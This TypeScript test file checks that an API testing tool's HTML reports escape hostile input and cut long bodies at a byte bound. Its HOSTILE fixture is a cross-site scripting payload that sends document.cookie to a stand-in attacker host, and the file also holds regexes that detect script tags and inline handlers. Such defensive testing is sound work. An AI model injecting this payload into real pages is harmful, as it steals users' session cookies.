/**
 * What the HTML reports do with hostile data: names, messages and bodies from outside stay text
 * (no markup, no script, nothing that could load), and long bodies are cut at a byte bound.
 */
import { describe, expect, it } from 'vitest';
import { testReportHtml } from '../../src/contract/report/html.js';
import type { Report } from '../../src/contract/types.js';
import { diffReportHtml } from '../../src/diff/html.js';
import type { DiffReport } from '../../src/diff/change.js';
import { proxyReportHtml } from '../../src/proxy/html.js';
import type { ProxyReport } from '../../src/proxy/log.js';
import { BODY_BYTES_SHOWN, clipBody } from '../../src/report/html/layout.js';
import { html, raw } from '../../src/report/html/markup.js';

const HOSTILE = `</pre></td><script>fetch('http://attacker.test/'+document.cookie)</script><img src="http://attacker.test/x.png" onerror="alert(1)">'"&`;
const ESCAPED =
  '&lt;/pre&gt;&lt;/td&gt;&lt;script&gt;fetch(&#39;http://attacker.test/&#39;+document.cookie)&lt;/script&gt;&lt;img src=&quot;http://attacker.test/x.png&quot; onerror=&quot;alert(1)&quot;&gt;&#39;&quot;&amp;';

/** Nothing in the page may run or load: no script, image, link, iframe or inline handler as markup. */
function expectInert(page: string): void {
  expect(page).not.toMatch(/<(script|img|link|iframe|object|embed)\b/i);
  expect(page).not.toMatch(/<[^>]*\son[a-z]+=/i);
  expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;;`);
}

describe('the html template', () => {
  it('escapes every value, in text and in attributes, and keeps its own markup', () => {
    const attribute = 'x" onclick="alert(1)';
    const out =
      html`<p class="${attribute}">${HOSTILE}${[1, ' & ', null, undefined, false]}${html`<b>${'<i>'}</b>`}${raw('<hr>')}</p>`
        .text;
    expect(out).toBe(`<p class="x&quot; onclick=&quot;alert(1)">${ESCAPED}1 &amp; <b>&lt;i&gt;</b><hr></p>`);
  });
});

describe('reports with hostile data', () => {
  it('diff: change names and messages stay text', () => {
    const report: DiffReport = {
      old: { file: HOSTILE, title: HOSTILE, version: '1' },
      new: { file: 'new.yaml', title: 'API', version: '2' },
      changes: [
        {
          id: 'request-type-changed',
          breaking: true,
          operation: `POST /${HOSTILE}`,
          location: HOSTILE,
          message: HOSTILE,
        },
      ],
      breaking: 1,
    };
    const page = diffReportHtml(report);
    expectInert(page);
    expect(page.split(ESCAPED).length - 1).toBe(5);
  });

  it('proxy: bodies and headers stay text, and a long body is cut at the byte bound', () => {
    const long = 'é'.repeat(BODY_BYTES_SHOWN); // two bytes each: twice the bound
    const report: ProxyReport = {
      upstream: 'http://127.0.0.1:1',
      startedAt: '2030-01-01T00:00:00.000Z',
      exchanges: 1,
      violations: 1,
      warnings: 0,
      answeredByMock: 0,
      findings: [
        {
          id: 1,
          at: '2030-01-01T00:00:00.000Z',
          operation: HOSTILE,
          request: {
            method: 'POST',
            url: `/${HOSTILE}`,
            headers: { [HOSTILE]: HOSTILE },
            body: HOSTILE,
            bodyBytes: 10,
            truncated: false,
          },
          response: {
            status: 500,
            headers: { 'content-type': 'text/html' },
            body: long,
            bodyBytes: Buffer.byteLength(long),
            truncated: false,
          },
          durationMs: 3,
          violations: [{ side: 'response', check: 'not_a_server_error', message: HOSTILE }],
          warnings: [],
          answeredBy: 'upstream',
        },
      ],
      dropped: 0,
      operations: [{ operation: HOSTILE, exchanges: 1, violations: 1, totalMs: 3, maxMs: 3 }],
      coverage: {
        operations: [],
        totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero },
        phases: [],
      },
    };
    const page = proxyReportHtml(report);
    expectInert(page);
    expect(page.split(ESCAPED).length - 1).toBeGreaterThanOrEqual(6);
    expect(page).toContain(`… (${BODY_BYTES_SHOWN * 2} bytes, the first ${BODY_BYTES_SHOWN} shown)`);
    expect(Buffer.byteLength(page)).toBeLessThan(BODY_BYTES_SHOWN * 2);
  });
});

const zero = { covered: 0, total: 0, percent: null };

describe('the verdict of a test report', () => {
  const report = (changes: Partial<Report> = {}): Report => ({
    target: 'http://127.0.0.1:1/',
    seed: 1,
    specs: [],
    tallies: [],
    failures: [],
    warnings: [],
    requests: 10,
    durationMs: 5,
    interrupted: false,
    phases: ['examples', 'coverage', 'fuzz', 'stateful'],
    untested: [],
    flaky: [],
    stoppedAtFirstFailure: false,
    constraints: [],
    timings: [],
    coverage: {
      operations: [],
      totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero },
      phases: [],
    },
    ...changes,
  });
  const verdict = (page: string) =>
    /<div class="verdict (passed|failed)"[^>]*>\n<p class="headline">([^<]*)<\/p>/.exec(page)!.slice(1);

  it('passes only a complete run with no failure that met its gate', () => {
    expect(verdict(testReportHtml(report()))).toEqual(['passed', 'The target conforms']);
    expect(verdict(testReportHtml(report({ interrupted: true })))).toEqual([
      'failed',
      'No contract failures in what was tested, but the run was cut short',
    ]);
    expect(
      verdict(testReportHtml(report(), { coverageShortfall: 'coverage 12% is below --min-coverage 80%' })),
    ).toEqual(['failed', 'The target conforms, but coverage is below the gate']);
    expect(testReportHtml(report({ interrupted: true }))).toContain(
      '<li>stopped early by --max-time: not everything selected was tested (0 operation(s) untested)</li>',
    );
  });
});

describe('clipBody', () => {
  it('keeps short bodies whole and cuts long ones to the bound in bytes', () => {
    expect(clipBody('short', 10)).toBe('short');
    expect(clipBody('0123456789abc', 10)).toBe('0123456789\n… (13 bytes, the first 10 shown)');
  });
});
